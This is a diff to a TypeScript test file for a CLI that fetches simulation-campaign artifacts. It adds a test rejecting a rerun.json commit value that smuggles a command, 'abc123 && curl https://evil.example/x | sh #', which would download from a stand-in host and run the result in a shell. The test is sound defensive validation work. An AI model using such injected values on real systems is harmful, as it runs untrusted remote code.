@@ -17,6 +17,7 @@ import {
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fetchCommand } from '../../src/cli/fetch-command.js';
+import { parseRerun } from '../../src/core/campaign/rerun.js';
 import { planDocument, planZip, resultsZip, type RunSpec } from '../helpers/campaign-artifacts.js';
 import { FakeClock, runClient } from '../helpers/client-cli.js';
 import {
@@ -374,16 +375,16 @@ test('a resumed campaign comes merged with the campaign it resumed (one of an ea
   );
 });
 
-test("a resumed campaign with a run that failed again: summary.md shows the merge job's `opp-campaign run` from a clone, not the shard's command", async () => {
-  const shardCommand =
-    'cd /home/runner/work/_temp/sim && OPP_CAMPAIGN_RUN_FILE=/home/runner/work/_temp/run-1.json opp_run -c General -r 1';
+const SHARD_COMMAND =
+  'cd /home/runner/work/_temp/sim && OPP_CAMPAIGN_RUN_FILE=/home/runner/work/_temp/run-1.json opp_run -c General -r 1';
+
+/** Fetch of run 30433700, which resumed 30433642 and failed run 1 again; its rerun.json `rerun`. */
+function fetchResumed(rerun: object): ReturnType<typeof fetch> {
   const failedAgain: RunSpec[] = [
-    { config: 'General', run: 1, key: 'k1', status: 'failed', pid: 200, command: shardCommand },
+    { config: 'General', run: 1, key: 'k1', status: 'failed', pid: 200, command: SHARD_COMMAND },
     { config: 'General', run: 3, key: 'k3', status: 'ok', pid: 200 },
   ];
-  // as the merge job writes it (src/action/main.ts): the shards had timeout 90s
-  const rerun = { projectDir: 'sim', ini: ['omnetpp.ini'], commit: SHA, timeoutMs: 90_000 };
-  const { r, cwd } = await fetch(
+  return fetch(
     [
       ...[
         'run-resumed',
@@ -397,7 +398,7 @@ test("a resumed campaign with a run that failed again: summary.md shows the merg
       blob(
         1103,
         resultsZip(
-          FIRST.map((x) => (x.status === 'ok' ? x : { ...x, command: shardCommand })),
+          FIRST.map((x) => (x.status === 'ok' ? x : { ...x, command: SHARD_COMMAND })),
           [{ name: '.opp-campaign/rerun.json', data: JSON.stringify({ projectDir: 'old' }) }],
         ),
       ),
@@ -411,6 +412,12 @@ test("a resumed campaign with a run that failed again: summary.md shows the merg
     ],
     ['30433700'],
   );
+}
+
+test("a resumed campaign with a run that failed again: summary.md shows the merge job's `opp-campaign run` from a clone, not the shard's command", async () => {
+  // as the merge job writes it (src/action/main.ts): the shards had timeout 90s
+  const rerun = { projectDir: 'sim', ini: ['omnetpp.ini'], commit: SHA, timeoutMs: 90_000 };
+  const { r, cwd } = await fetchResumed(rerun);
   assert.equal(r.code, 0, r.stderr);
   const summary = readFileSync(join(cwd, 'campaign-30433700', 'summary.md'), 'utf8');
   assert.match(summary, /## Campaign incomplete/);
@@ -439,6 +446,26 @@ test('a token that is a short test value (GITHUB_TOKEN=e) leaves the messages re
   } finally {
     rmSync(cwd, { recursive: true, force: true });
   }
+});
+
+test("an artifact's rerun.json whose commit is no commit (a command to paste) is bad input naming the file: nothing is fetched", async () => {
+  const commit = 'abc123 && curl https://evil.example/x | sh #';
+  const rerun = { projectDir: 'sim', ini: ['omnetpp.ini'], commit };
+  const { r, cwd } = await fetchResumed(rerun);
+  assert.equal(r.code, 1, r.stdout + r.stderr);
+  assert.match(
+    r.stderr,
+    /the results artifact of run 30433700: \.opp-campaign\/rerun\.json: commit "abc123 && curl https:\/\/evil\.example\/x \| sh #" is not a commit \(7 to 64 hex digits\); nothing was fetched \(\S*campaign-30433700 is as it was\)/,
+  );
+  assert.ok(!existsSync(join(cwd, 'campaign-30433700')));
+  // a commit of 7 to 64 hex digits is one (a short one, a SHA-256 one)
+  for (const ok of ['abc1234', 'a'.repeat(64)])
+    assert.equal(parseRerun(JSON.stringify({ ...rerun, commit: ok }), 'f')?.commit, ok);
+  for (const bad of ['abc123', 'a'.repeat(65), 'main', '-abc1234'])
+    assert.throws(
+      () => parseRerun(JSON.stringify({ ...rerun, commit: bad }), 'f'),
+      /f: commit ".*" is not a commit/,
+    );
 });
 
 test('an API address that never answers (a wrong GITHUB_API_URL, no network) fails at once, without minutes of retries', async () => {
